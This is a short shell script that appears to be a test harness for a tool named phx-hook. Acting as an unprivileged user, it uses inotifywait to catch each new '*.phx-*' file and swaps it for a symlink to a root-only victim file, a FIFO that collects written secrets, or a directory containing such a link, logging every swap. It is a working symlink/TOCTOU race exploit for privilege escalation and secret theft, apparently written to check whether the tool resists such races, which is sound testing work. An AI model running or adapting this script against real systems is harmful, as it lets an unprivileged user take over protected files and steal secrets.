#!/bin/sh
# race-attacker.sh DIR VICTIM LOG: an unprivileged user racing phx-hook's writers in a
# directory it can write (run it with `setpriv --reuid=...`). It watches DIR with
# inotify and swaps every new phx-hook name (`*.phx-*`) for, in turn, a symbolic link
# to VICTIM (a root-only file: make root chown it, chmod it, or write the secret into
# it), a FIFO it reads (make root write the secret to it), or a directory of its own
# holding a link to VICTIM (a staging directory of its choosing). LOG gets one line per
# successful swap; LOG.fifo whatever came through the FIFOs. Its own creations are skipped.
dir=$1 victim=$2 log=$3 n=0
inotifywait -m -q -e create -e moved_to --format '%f' "$dir" 2>/dev/null | while IFS= read -r f; do
  case $f in *.phx-*) ;; *) continue ;; esac
  [ -O "$dir/$f" ] && continue
  n=$((n + 1))
  mv -f -- "$dir/$f" "$dir/stolen-$n" 2>/dev/null || continue
  case $((n % 3)) in
    0) ln -s "$victim" "$dir/$f" ;;
    1) mkfifo "$dir/$f" && (cat "$dir/$f" >>"$log.fifo" &) ;;
    2) mkdir "$dir/$f" && ln -s "$victim" "$dir/$f/0" ;;
  esac
  echo "swapped $f" >>"$log"
done
